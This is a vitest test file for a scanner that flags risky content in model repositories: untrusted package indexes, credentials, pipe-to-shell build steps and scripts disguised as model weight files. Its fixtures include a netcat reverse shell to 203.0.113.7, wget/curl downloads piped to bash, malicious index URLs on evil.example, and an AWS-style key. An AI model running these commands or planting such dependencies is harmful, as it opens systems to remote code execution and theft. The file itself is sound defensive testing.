import { describe, expect, test } from "vitest";
import { scanBytes, told } from "../builders/scan.js";

const scan = async (name: string, text: string) => told(await scanBytes(name, text));

describe("requirements", () => {
  test.each([
    "--extra-index-url http://203.0.113.7/simple",
    "--index-url=https://packages.evil.example/simple",
    "evil @ https://evil.example/e-1.0-py3-none-any.whl",
    "git+http://203.0.113.7/e.git@main",
    "-f https://x.ngrok.io/wheels",
    "-i http://files.pythonhosted.org/simple",
  ])("%s is told", async (line) => {
    expect(await scan("requirements.txt", `torch==2.1.0\n${line}\n`)).toEqual(["medium config/remote-dependency"]);
  });

  test.each([
    "--extra-index-url https://download.pytorch.org/whl/cu121",
    "git+https://github.com/huggingface/peft.git@main",
    "torch @ https://download.pytorch.org/whl/torch-2.0.whl",
    "-r base.txt",
    "-e .",
    "# see http://203.0.113.7/ for more",
    "local @ file:///wheels/a.whl",
  ])("%s is ordinary", async (line) => {
    expect(await scan("requirements.txt", `torch==2.1.0\n${line}\n`)).toEqual([]);
  });

  test("a password of an index is a credential", async () => {
    expect(await scan("requirements.txt", "--index-url https://me:q8Zr2LmX5v@packages.evil.example/simple\n")).toEqual([
      "medium config/remote-dependency",
      "medium secrets/credential",
    ]);
  });
});

describe("Dockerfiles and shell scripts", () => {
  test.each([
    ["Dockerfile", "FROM x\nRUN wget -qO- http://203.0.113.7/x | bash\n", ["medium config/build-command"]],
    ["Dockerfile", "FROM x\nRUN curl -s \\\n  http://203.0.113.7/x \\\n  | sh\n", ["medium config/build-command"]],
    ["Dockerfile", "FROM x\nADD http://203.0.113.7/x /x\n", ["medium config/remote-dependency"]],
    [
      "Dockerfile",
      "FROM x\nRUN pip install --index-url http://203.0.113.7/simple e\n",
      ["medium config/remote-dependency"],
    ],
    ["Dockerfile", "FROM x\nENV KEY=AKIAQ3EGZ7TWLKVN4R2D\n", ["medium secrets/credential"]],
    ["run.sh", "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 9\n", ["medium config/command-text"]],
    ["Dockerfile", "FROM x\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n", ["low config/build-command"]],
  ])("%s %j", async (name, text, expected) => {
    expect(await scan(name, text)).toEqual(expected);
  });

  test.each([
    ["Dockerfile", "FROM python:3.11-slim\nRUN apt-get update && apt-get install -y curl\nCOPY . /app\n"],
    ["Dockerfile", "FROM x\n# RUN curl http://203.0.113.7/x | sh\nRUN pip install torch\n"],
    ["run.sh", "#!/bin/sh\npython train.py --lr 0.1\n"],
  ])("%s %j is ordinary", async (name, text) => {
    expect(await scan(name, text)).toEqual([]);
  });
});

describe("scripts under the name of a model", () => {
  test.each([
    ["model.bin", "#!/usr/bin/env bash\necho\n"],
    ["pytorch_model.bin.sh", "#!/bin/sh\necho\n"],
    ["weights.pt", "@echo off\r\necho\r\n"],
  ])("%s", async (name, text) => {
    expect(await scan(name, text)).toEqual(["high executable/disguised"]);
  });

  test.each([
    ["download.sh", "#!/bin/sh\necho\n"],
    ["run.bat", "@echo off\r\necho\r\n"],
    ["configure", "#!/bin/sh\necho\n"],
  ])("%s is an honest name", async (name, text) => {
    expect(await scan(name, text)).toEqual([]);
  });
});

describe("prose", () => {
  const card =
    "---\nlicense: mit\n---\n# Model\n\n```python\nos.system('id')\nmodel = load('x', trust_remote_code=True)\n```\ncurl http://203.0.113.7/x | sh\n";

  test("a model card may show code, commands and addresses", async () => {
    expect(await scan("README.md", card)).toEqual([]);
  });

  test("a credential in it is a credential", async () => {
    expect(await scan("README.md", `${card}AKIAQ3EGZ7TWLKVN4R2D\n`)).toEqual(["medium secrets/credential"]);
  });

  test("what its front matter states is kept", async () => {
    expect((await scanBytes("README.md", card)).metadata).toMatchObject({ license: "mit" });
  });
});
